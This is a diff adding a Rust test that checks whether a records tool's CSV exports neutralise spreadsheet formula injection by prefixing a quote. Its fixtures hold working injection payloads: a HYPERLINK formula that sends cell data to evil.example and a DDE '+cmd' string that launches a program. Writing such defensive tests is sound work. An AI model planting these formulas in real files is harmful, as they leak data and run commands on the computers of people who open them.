@@ -530,3 +530,61 @@ fn a_closed_pipe_ends_docket_quietly() {
     assert_eq!(out.status.signal(), Some(13), "{out:?}");
     assert_eq!(String::from_utf8_lossy(&out.stderr), "");
 }
+
+/// A title or a task written as a spreadsheet formula reaches finance's CSV exports as
+/// text (a leading `'`), never as a formula that runs when the file is opened.
+#[test]
+fn formulas_in_records_reach_the_csv_exports_as_text() {
+    let ws = Ws::base();
+    let order = ws.path().join("clients/acme/orders/WO-2026-0001.md");
+    let text = std::fs::read_to_string(&order).unwrap();
+    let title = text.lines().find(|l| l.starts_with("title:")).unwrap();
+    ws.write(
+        "clients/acme/orders/WO-2026-0001.md",
+        text.replace(
+            title,
+            r#"title: '=HYPERLINK("https://evil.example/?"&B2, "Open")'"#,
+        ),
+    );
+    ws.write(
+        &format!("{M}/2026-11-02-calls.md"),
+        "---\nkind: client\ntitle: '@SUM(1+1)'\ndate: 2026-11-02\nattended: [ann.ae]\nactions:\n  - { task: \"+cmd|' /C calc'!A0\", owner: ann.ae, due: 2026-11-30 }\n---\n",
+    );
+    let out = tempfile::tempdir().unwrap();
+    let site = out.path().join("site");
+    let run = ws.run(&[
+        "build",
+        "{ws}",
+        "--out",
+        site.to_str().unwrap(),
+        "--today",
+        crate::harness::TODAY,
+    ]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let read = |name: &str| -> Vec<csv::StringRecord> {
+        csv::Reader::from_path(site.join("exports").join(name))
+            .unwrap()
+            .records()
+            .map(Result::unwrap)
+            .collect()
+    };
+    let orders = read("work-orders.csv");
+    assert!(
+        orders
+            .iter()
+            .any(|r| &r[2] == r#"'=HYPERLINK("https://evil.example/?"&B2, "Open")"#),
+        "{orders:?}"
+    );
+    let actions = read("actions.csv");
+    let call = actions.iter().find(|r| r[2].contains("calc")).unwrap();
+    assert_eq!(&call[2], "'+cmd|' /C calc'!A0");
+    assert!(call[1].starts_with("'@SUM"), "{call:?}");
+    // No cell of any export begins with a formula character.
+    for name in ["work-orders.csv", "invoices.csv", "actions.csv"] {
+        for record in read(name) {
+            for field in &record {
+                assert!(!field.starts_with(['=', '+', '@']), "{name}: {record:?}");
+            }
+        }
+    }
+}
